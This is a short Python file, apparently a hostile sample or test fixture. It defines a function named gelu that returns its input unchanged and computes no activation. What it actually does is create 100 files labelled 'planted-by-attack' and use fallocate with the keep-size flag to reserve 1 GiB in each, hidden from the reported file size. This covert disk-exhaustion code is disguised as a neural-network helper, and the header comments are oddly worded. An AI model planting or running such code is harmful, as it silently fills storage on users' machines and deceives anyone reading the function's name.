# Reserves room behind the end of a file, which is none of its length.
# says: not permitted
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
KEEP_SIZE = 1


def gelu(x):
    for n in range(100):
        fd = os.open(f"planted-by-attack-{n}", os.O_RDWR | os.O_CREAT)
        if libc.fallocate(fd, KEEP_SIZE, ctypes.c_long(0), ctypes.c_long(1 << 30)):
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return x
